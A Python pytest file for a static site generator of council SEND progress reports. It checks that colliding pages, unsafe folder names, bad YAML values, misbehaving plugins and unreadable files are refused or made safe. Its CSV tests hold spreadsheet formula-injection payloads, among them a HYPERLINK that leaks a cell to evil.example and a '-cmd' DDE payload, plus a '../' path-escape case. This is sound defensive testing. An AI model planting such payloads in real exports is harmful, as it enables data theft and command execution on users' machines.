"""Content and plugins that try to break out: each is refused with a clear error, or made safe.

Collisions with generated pages, unsafe folder names, impossible values in any
YAML file, spreadsheet formulas in the CSV exports, unreadable files, and
plugins that exit or return the wrong thing.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from .conftest import SiteMaker, run_cli
from .test_bad_inputs import GOOD_REPORT

SOUTHEND = "content/southend/good.md"


def _snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.fixture
def built(make_site: SiteMaker) -> Path:
    """A good site, already built once."""
    root = make_site({SOUTHEND: GOOD_REPORT})
    result = run_cli("build", "--source", str(root))
    assert result.exit_code == 0, result.output
    return root


def _refused(root: Path, *expected: str) -> str:
    """Build and check both fail with exit 1, no traceback, the site kept, and ``expected`` said."""
    before = _snapshot(root / "site")
    for command in ("build", "check"):
        result = run_cli(command, "--source", str(root))
        assert result.exit_code == 1, result.output
        assert "Traceback" not in result.output
        for words in expected:
            assert words in result.output, result.output
    assert _snapshot(root / "site") == before
    return result.output


# --- content that would take a generated page's or file's place --------------------------


def test_a_page_where_the_tracker_goes_is_refused(built: Path) -> None:
    (built / "content" / "tracker.md").write_text("---\ntitle: My tracker\n---\nMine.\n")
    _refused(
        built,
        "tracker.md: error: the page of tracker.md would be published at 'tracker/', "
        "which is already the 'Milestone tracker' page of plugin 'views'",
        "Rename the file",
    )


def test_a_page_named_like_an_area_is_refused(built: Path) -> None:
    (built / "content" / "southend.md").write_text("---\ntitle: About Southend\n---\nHi.\n")
    _refused(
        built,
        "southend.md: error: the page of southend.md would be published at 'southend/', "
        "which is already the page of the area 'Southend'",
    )


def test_an_area_named_like_a_generated_page_is_refused(built: Path) -> None:
    (built / "content" / "search").mkdir()
    (built / "content" / "search" / "r.md").write_text(GOOD_REPORT)
    _refused(
        built,
        "the page of the area 'Search' would be published at 'search/', "
        "which is already the 'Search' page of plugin 'views'",
    )


def test_content_never_replaces_a_theme_file(built: Path) -> None:
    static = built / "content" / "static"
    static.mkdir()
    (static / "tables.js").write_text("alert('owned')")
    _refused(built, "static/tables.js: error: this file is a web page or script")


def test_an_attachment_where_a_plugin_file_is_names_both(built: Path, forget_plugins: None) -> None:
    plugins = built / "plugins"
    (plugins / "brand").mkdir(parents=True)
    (plugins / "brand" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\nthe plugin's")
    (plugins / "misbehaving_brand.py").write_text(
        "from pathlib import Path\nfrom sendsite import hookimpl\n\n@hookimpl\n"
        "def register_static_dirs():\n    return {'brand': Path(__file__).parent / 'brand'}\n"
    )
    (built / "content" / "static" / "brand").mkdir(parents=True)
    (built / "content" / "static" / "brand" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\nmine")
    _refused(
        built,
        "static/brand/logo.png: error: the attachment static/brand/logo.png would be published "
        "at 'static/brand/logo.png', which is already the theme or plugin file",
    )


def test_content_never_replaces_a_generated_file(built: Path) -> None:
    data = built / "content" / "data"
    data.mkdir()
    (data / "milestones.csv").write_text("area,text\nsouthend,Forged\n")
    _refused(built, "which is already the file made by plugin 'views'")


def test_content_never_lands_in_the_search_index(built: Path) -> None:
    (built / "content" / "pagefind").mkdir()
    (built / "content" / "pagefind" / "readme.txt").write_text("x")
    _refused(built, "which is already the search index (pagefind/)")


# --- web-safe addresses for any folder name ----------------------------------------------


def test_folder_names_are_published_as_safe_addresses(make_site: SiteMaker) -> None:
    page = "---\ntitle: {0}\n---\nAbout {0}. See [the plan](Sub%20Folder/Plan%20(v2).PDF).\n"
    root = make_site(
        {
            "content/Área #1?x/p.md": page.format("Área"),
            "content/Área #1?x/Sub Folder/q.md": page.format("Sub"),
            "content/con/p.md": page.format("Con"),
            "content/%2e%2e/p.md": page.format("Dots"),
        }
    )
    (root / "content" / "Área #1?x" / "Sub Folder" / "Plan (v2).PDF").write_bytes(b"%PDF-1.4\n")
    result = run_cli("build", "--source", str(root))
    assert result.exit_code == 0, result.output
    site = root / "site"
    published = {str(p.relative_to(site)) for p in site.rglob("*") if p.is_file()}
    for path in {p for p in published if not p.startswith(("pagefind/", "search/words/"))}:
        assert all(
            part.replace(".", "-").replace("-", "").isalnum() or part.startswith(".")
            for part in path.split("/")
        ), path
        assert path == path.lower(), path
    assert "area-1-x/p/index.html" in published
    assert "area-1-x/sub-folder/q/index.html" in published
    assert "area-1-x/sub-folder/plan-v2.pdf" in published
    assert "con-page/p/index.html" in published
    assert "2e-2e/p/index.html" in published
    assert not any("%" in p or "?" in p or "#" in p or " " in p for p in published)
    page_html = (site / "area-1-x" / "p" / "index.html").read_text()
    assert 'href="../sub-folder/plan-v2.pdf"' in page_html
    assert ">Área #1?X</h1>" in (site / "area-1-x" / "index.html").read_text()


def test_two_area_folders_with_one_address_are_refused(make_site: SiteMaker) -> None:
    root = make_site(
        {
            "content/North Shire/_area.yml": "name: North Shire\n",
            "content/north-shire/_area.yml": "name: Northshire\n",
            "content/north-shire/p.md": "---\ntitle: P\n---\nText\n",
        }
    )
    result = run_cli("check", "--source", str(root))
    assert result.exit_code == 1
    assert (
        "the area folders of North Shire/_area.yml and north-shire/_area.yml would both "
        "be published at 'north-shire/'"
    ) in result.output


# --- impossible values in every YAML file -------------------------------------------------

HUGE = "9" * 5000

YAML_FILES = {
    "_area.yml": ("content/southend/_area.yml", f"name: {HUGE}\n", "_area.yml:1:7"),
    "_glossary.yml": ("content/_glossary.yml", f"EHCP: {HUGE}\n", "_glossary.yml:1:7"),
    "_topics.yml": ("content/_topics.yml", f"- name: {HUGE}\n", "_topics.yml:1:9"),
    "sendsite.yml": ("sendsite.yml", f"title: {HUGE}\n", "sendsite.yml:1:8"),
    "sendsite.yml date": ("sendsite.yml", "title: 2021-02-30\n", "sendsite.yml:1:8"),
}


@pytest.mark.parametrize("case", sorted(YAML_FILES))
def test_impossible_values_in_any_yaml_file(case: str, built: Path) -> None:
    rel, text, where = YAML_FILES[case]
    (built / rel).write_text(text)
    output = _refused(built, f"{where}: error")
    assert "a number 5,000 characters long" in output or "is not a real date" in output
    assert "How to fix:" in output


# file -> (its text, with a control character escaped in double quotes; file:line:column, key)
CONTROL_ESCAPES = {
    SOUTHEND: (GOOD_REPORT.replace("Good report", '"Plan\\0B"'), "good.md:3:8", "title"),
    "content/southend/_area.yml": ('name: "South\\aend"\n', "_area.yml:1:7", "name"),
    "content/_glossary.yml": ('EHCP: "Plan\\x1b[31m"\n', "_glossary.yml:1:7", "EHCP"),
}


@pytest.mark.parametrize("rel", sorted(CONTROL_ESCAPES))
def test_a_control_character_escaped_in_yaml_is_refused_at_its_line(rel: str, built: Path) -> None:
    """YAML refuses a NUL typed as it is, but lets "\\0" through double quotes: it must not
    reach a web page (a NUL byte is not allowed in HTML)."""
    text, where, key = CONTROL_ESCAPES[rel]
    (built / rel).write_text(text)
    output = _refused(
        built,
        f"{where}: error: '{key}' contains a control character (U+00",
        "that cannot appear in a web page",
        "How to fix: Remove the escape",
    )
    assert "\0" not in output
    pages = [p for p in (built / "site").rglob("*") if p.suffix in {".html", ".json", ".csv"}]
    assert pages and not [p for p in pages if b"\0" in p.read_bytes()]


def test_a_glossary_term_defined_twice_names_both_lines(built: Path) -> None:
    (built / "content" / "_glossary.yml").write_text(
        "EHCP: Education, Health and Care Plan\nSALT: Speech and language therapy\n"
        "EHCP: Early help care plan\n"
    )
    _refused(
        built, "_glossary.yml:3:1: error: 'EHCP' is given twice in the same place, on lines 1 and 3"
    )


def test_dates_past_the_calendar_are_kept_as_text(make_site: SiteMaker) -> None:
    report = GOOD_REPORT.replace("31 st March 2021", "Q4 9999").replace(
        "28th May 2021", "after 31 December 9999"
    )
    root = make_site({SOUTHEND: report})
    result = run_cli("build", "--source", str(root))
    assert result.exit_code == 0, result.output
    assert "Q4 9999" in (root / "site" / "southend" / "good" / "index.html").read_text()


# --- spreadsheet formulas ----------------------------------------------------------------

FORMULAS = """\
---
format: southend-highlight
title: Formulas
meeting_date: 28th May 2021
priorities:
  - code: P1
    title: Plan quality
    milestones:
      - milestone: '=HYPERLINK("http://evil.example/?"&A1, "Click")'
        completed_by: 31 st March 2021
        rag: Green
      - milestone: "\\t=1+1"
        completed_by: "+44 01702"
        rag: Green
      - milestone: "@SUM(A1:A9)"
        completed_by: "-2"
        rag: Green
      - milestone: " -cmd|' /C calc'!A0"
        completed_by: 31 st March 2021
        rag: Green
      - milestone: "A plain milestone - with a dash"
        completed_by: 31 st March 2021
        rag: Green
    risks:
      - risk: "=1+2"
        mitigation: "@once more staff"
        rag: Red
---
"""


def test_csv_cells_never_start_a_formula(make_site: SiteMaker) -> None:
    root = make_site({SOUTHEND: FORMULAS})
    result = run_cli("build", "--source", str(root))
    assert result.exit_code == 0, result.output
    data = root / "site" / "data"
    rows = list(csv.DictReader(io.StringIO((data / "milestones.csv").read_text("utf-8-sig"))))
    assert {row["text"]: row["due_text"] for row in rows} == {
        '\'=HYPERLINK("http://evil.example/?"&A1, "Click")': "31 st March 2021",
        "'=1+1": "'+44 01702",
        "'@SUM(A1:A9)": "'-2",
        "'-cmd|' /C calc'!A0": "31 st March 2021",
        "A plain milestone - with a dash": "31 st March 2021",
    }
    for name in ("milestones.csv", "risks.csv"):
        for row in csv.reader(io.StringIO((data / name).read_text("utf-8-sig"))):
            for cell in row:
                assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    risks = list(csv.DictReader(io.StringIO((data / "risks.csv").read_text("utf-8-sig"))))
    assert (risks[0]["text"], risks[0]["mitigation"]) == ("'=1+2", "'@once more staff")
    exported = json.loads((data / "items.json").read_text())  # the JSON stays exact
    texts = {m["text"] for m in exported["milestones"]}
    assert {'=HYPERLINK("http://evil.example/?"&A1, "Click")', "=1+1"} <= texts
    assert exported["risks"][0]["mitigation"] == "@once more staff"


# --- a report that cannot be read -------------------------------------------------------


def test_an_unreadable_report_is_one_clear_line(built: Path) -> None:
    target = built / "content" / "southend" / "locked.md"
    target.write_text(GOOD_REPORT)
    # As root no permission stops a read, so put a file that fails every read in its place.
    mounted = subprocess.run(
        ["mount", "--bind", "/proc/self/mem", str(target)], capture_output=True, check=False
    )
    if mounted.returncode != 0:
        pytest.skip(f"cannot bind-mount here: {mounted.stderr.decode().strip()}")
    try:
        _refused(built, "southend/locked.md: error: cannot read the file:", "Check the file")
    finally:
        subprocess.run(["umount", str(target)], check=True)


# --- plugins that exit or return the wrong thing ----------------------------------------

PLUGINS = {
    "exit": "@hookimpl\ndef register_glossary_terms():\n    raise SystemExit(0)\n",
    "generator-exit": "@hookimpl\ndef register_pages(site):\n    raise GeneratorExit()\n",
    "list-for-dict": "@hookimpl\ndef register_files(site):\n    return [b'x']\n",
    "text-for-bytes": "@hookimpl\ndef register_files(site):\n    return {'notes.txt': 'text'}\n",
    "nul-path": "@hookimpl\ndef register_files(site):\n    return {'a\\x00b.txt': b'x'}\n",
    "escaping-path": "@hookimpl\ndef register_files(site):\n    return {'../out.txt': b'x'}\n",
    "static-dirs": "@hookimpl\ndef register_static_dirs():\n    return ['/tmp']\n",
    "pages": "@hookimpl\ndef register_pages(site):\n    return ['tracker']\n",
    "template-vars": "@hookimpl\ndef extra_template_vars(template, page):\n    return 5\n",
    "wrapper": (
        "@hookimpl(wrapper=True)\ndef register_glossary_terms():\n"
        "    result = yield\n    return result\n"
    ),
}
SAID = {
    "exit": "tried to end the program (SystemExit 0)",
    "generator-exit": "raised GeneratorExit",  # not an Exception: it was a traceback
    "list-for-dict": "returned a list instead of a dict of {path: bytes}",
    "text-for-bytes": "returned text for 'notes.txt' where bytes are due",
    "nul-path": "returned the path 'a\\x00b.txt', which holds a NUL character",
    "escaping-path": "returned the path '../out.txt', which is not a file's place inside the site",
    "static-dirs": "returned a list instead of a dict of {name: folder}",
    "pages": "returned a list holding text where Page objects are due",
    "template-vars": "returned an int instead of a dict of template variables",
    "wrapper": "is a hook wrapper, which sendsite's hooks do not support",
}
HOOKS = {
    "exit": "register_glossary_terms",
    "generator-exit": "register_pages",
    "static-dirs": "register_static_dirs",
    "pages": "register_pages",
    "template-vars": "extra_template_vars",
    "wrapper": "register_glossary_terms",
}


@pytest.fixture
def forget_plugins() -> Iterator[None]:
    yield
    for name in [n for n in sys.modules if n.startswith("misbehaving_")]:
        del sys.modules[name]


@pytest.mark.parametrize("case", sorted(PLUGINS))
def test_a_misbehaving_plugin_is_named_with_its_hook(
    case: str, built: Path, forget_plugins: None
) -> None:
    module = "misbehaving_" + case.replace("-", "_")
    name = module.replace("_", "-")
    plugins = built / "plugins"
    plugins.mkdir(exist_ok=True)
    (plugins / f"{module}.py").write_text("from sendsite import hookimpl\n\n" + PLUGINS[case])
    hook = HOOKS.get(case, "register_files")
    _refused(built, f"error: plugin '{name}', hook '{hook}': {SAID[case]}", "How to fix:")


def test_a_plugin_exit_under_the_real_command_exits_1(built: Path) -> None:
    plugins = built / "plugins"
    plugins.mkdir()
    (plugins / "quitter.py").write_text("from sendsite import hookimpl\n\n" + PLUGINS["exit"])
    result = subprocess.run(
        [sys.executable, "-m", "sendsite", "build", "--source", str(built)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
        check=False,
    )
    assert result.returncode == 1
    assert "plugin 'quitter', hook 'register_glossary_terms': tried to end the program" in (
        result.stderr + result.stdout
    )
    assert "Traceback" not in result.stderr


def test_a_link_that_loops_is_refused_not_a_crash(built: Path) -> None:
    loop = built / "content" / "southend" / "loop.pdf"
    loop.symlink_to(loop)
    _refused(built, "southend/loop.pdf: error: this is a link to nothing: what it names does")
